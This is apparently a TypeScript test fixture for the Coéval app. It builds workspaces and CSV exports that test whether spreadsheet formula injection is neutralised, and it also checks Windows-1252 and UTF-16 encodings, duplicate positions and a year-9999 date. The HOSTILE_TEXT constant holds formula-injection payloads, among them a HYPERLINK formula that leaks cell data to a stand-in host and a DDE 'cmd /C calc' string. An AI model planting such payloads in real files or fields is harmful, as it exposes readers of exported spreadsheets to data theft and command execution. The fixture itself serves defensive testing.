/**
 * Files that try to turn Coéval against the people who read its outputs: labels,
 * pseudonyms and comments that a spreadsheet would run as formulas, files saved as
 * Windows-1252 ("ANSI") or UTF-16, two collective positions that contradict each other,
 * a rating dated in the year 9999. Built from the example workspace, as bytes, with no
 * Node or DOM API, so that the tests of the engine, the command line and the app
 * (which import this file by its path) all read the same files.
 */
import { exportGridCsv } from "../format/grid-csv.ts";
import { serialiseWorkspace } from "../format/parse.ts";
import type { Cycle } from "../model/cycle.ts";
import type { Workspace } from "../model/workspace.ts";
import { EXAMPLE_IDS, exampleWorkspace } from "./epicerie-du-lien.ts";

/** What an attacker types where people type: each would run in a spreadsheet unneutralised. */
export const HOSTILE_TEXT = {
  criterion: '=HYPERLINK("https://exemple.org/?fuite="&A1;"Cliquez ici")',
  group: "+Salariés",
  pseudonym: "@SUM(1+1)*cmd|' /C calc'!A0",
  comment: "-2+3 pour voir",
  tabComment: "\t=1+1",
} as const;

/** The date of the rating that would "win forever". */
export const FAR_FUTURE = "9999-12-31T23:59:59.000Z";

function cycle2026(workspace: Workspace): Cycle {
  const found = workspace.cycles.find((cycle) => cycle.id === EXAMPLE_IDS.cycle2026);
  if (found === undefined) throw new Error("the example has no 2026 cycle");
  return found;
}

/** A valid workspace whose labels, pseudonyms and comments start like formulas. */
export function hostileWorkspace(): Workspace {
  const workspace = exampleWorkspace();
  for (const grid of workspace.grids) {
    for (const dimension of grid.dimensions) {
      for (const criterion of dimension.criteria) {
        if (criterion.id === EXAMPLE_IDS.participationCriterion) {
          criterion.label = HOSTILE_TEXT.criterion;
        }
      }
    }
  }
  for (const organisation of workspace.organisations) {
    for (const group of organisation.stakeholderGroups) {
      if (group.id === EXAMPLE_IDS.groups.employees) group.label = HOSTILE_TEXT.group;
    }
  }
  const cycle = cycle2026(workspace);
  const [first, second] = cycle.ratings;
  const rater = cycle.participants.find((participant) => participant.id === first?.participantId);
  if (rater === undefined || first === undefined || second === undefined) {
    throw new Error("the example's 2026 cycle has no ratings");
  }
  rater.pseudonym = HOSTILE_TEXT.pseudonym;
  first.comment = HOSTILE_TEXT.comment;
  second.comment = HOSTILE_TEXT.tabComment;
  return workspace;
}

export function hostileWorkspaceText(): string {
  return serialiseWorkspace(hostileWorkspace());
}

/** The example with its 2026 cycle's first position given twice for the same session. */
export function duplicatePositionsText(): { text: string; firstPath: string; secondPath: string } {
  const workspace = exampleWorkspace();
  const cycle = cycle2026(workspace);
  const position = cycle.positions[0];
  if (position === undefined) throw new Error("the example's 2026 cycle has no position");
  cycle.positions.push({ ...position, level: null, status: "noAgreement" });
  const c = workspace.cycles.indexOf(cycle);
  return {
    text: serialiseWorkspace(workspace),
    firstPath: `cycles[${c}].positions[0]`,
    secondPath: `cycles[${c}].positions[${cycle.positions.length - 1}]`,
  };
}

/** The example with one 2026 rating dated in the year 9999. */
export function farFutureRatingText(): { text: string; ratingId: string } {
  const workspace = exampleWorkspace();
  const rating = cycle2026(workspace).ratings[0];
  if (rating === undefined) throw new Error("the example's 2026 cycle has no rating");
  rating.createdAt = FAR_FUTURE;
  return { text: serialiseWorkspace(workspace), ratingId: rating.id };
}

/**
 * Windows-1252 bytes 0x80–0x9F as the WHATWG encoding standard lists them, written as
 * characters (a transcription independent of the decoder's table of code points); the
 * five bytes the code page leaves undefined are U+FFFF here.
 */
const WINDOWS_1252_HIGH = "€\uFFFF‚ƒ„…†‡ˆ‰Š‹Œ\uFFFFŽ\uFFFF\uFFFF‘’“”•–—˜™š›œ\uFFFFžŸ";

/** Every character Windows-1252 writes (tab and line ends as the only controls), with its byte. */
export const WINDOWS_1252_BYTES: ReadonlyMap<string, number> = (() => {
  const bytes = new Map<string, number>();
  for (let byte = 0x09; byte <= 0xff; byte++) {
    if (byte < 0x20 && byte !== 0x09 && byte !== 0x0a && byte !== 0x0d) continue;
    const character =
      byte >= 0x80 && byte <= 0x9f
        ? WINDOWS_1252_HIGH.charAt(byte - 0x80)
        : String.fromCharCode(byte);
    if (character !== "\uFFFF") bytes.set(character, byte);
  }
  return bytes;
})();

/** Text as Notepad's "ANSI" writes it; throws on a character the code page cannot write. */
export function encodeWindows1252(text: string): Uint8Array {
  return Uint8Array.from([...text], (character) => {
    const byte = WINDOWS_1252_BYTES.get(character);
    if (byte === undefined) throw new Error(`not in Windows-1252: U+${character.codePointAt(0)}`);
    return byte;
  });
}

/** Text as UTF-16, with a byte order mark or not, as Excel's "Unicode Text" writes it. */
export function encodeUtf16(
  text: string,
  byteOrder: "LE" | "BE",
  byteOrderMark: boolean,
): Uint8Array {
  const full = byteOrderMark && !text.startsWith("\uFEFF") ? `\uFEFF${text}` : text;
  const bytes = new Uint8Array(full.length * 2);
  for (let index = 0; index < full.length; index++) {
    const unit = full.charCodeAt(index);
    bytes[2 * index + (byteOrder === "LE" ? 0 : 1)] = unit & 0xff;
    bytes[2 * index + (byteOrder === "LE" ? 1 : 0)] = unit >> 8;
  }
  return bytes;
}

/** A small workspace whose names have accents, to save in other encodings. */
export function accentedWorkspaceText(): string {
  return serialiseWorkspace({
    formatVersion: 1,
    id: "cafe-de-l-etang",
    name: "Café associatif de l'Étang",
    grids: [],
    organisations: [
      {
        id: "cafe",
        name: "Café « L'Étang » : cœur du quartier",
        kind: "association",
        stakeholderGroups: [
          { id: "benevoles", label: "Bénévoles", side: "internal" },
          { id: "habitues", label: "Habitués du café", side: "external" },
        ],
      },
    ],
    cycles: [],
    gridWorkshops: [],
  });
}

/** The hostile grid as a CSV saved by a French Excel in "ANSI" (no byte order mark). */
export function gridCsvWindows1252(): Uint8Array {
  const grid = hostileWorkspace().grids[0];
  if (grid === undefined) throw new Error("the example has no grid");
  return encodeWindows1252(exportGridCsv(grid).replace(/^\uFEFF/, ""));
}

/** The hostile grid as a CSV saved as "Unicode Text": UTF-16 little endian with a byte order mark. */
export function gridCsvUtf16(): Uint8Array {
  const grid = hostileWorkspace().grids[0];
  if (grid === undefined) throw new Error("the example has no grid");
  return encodeUtf16(exportGridCsv(grid), "LE", true);
}
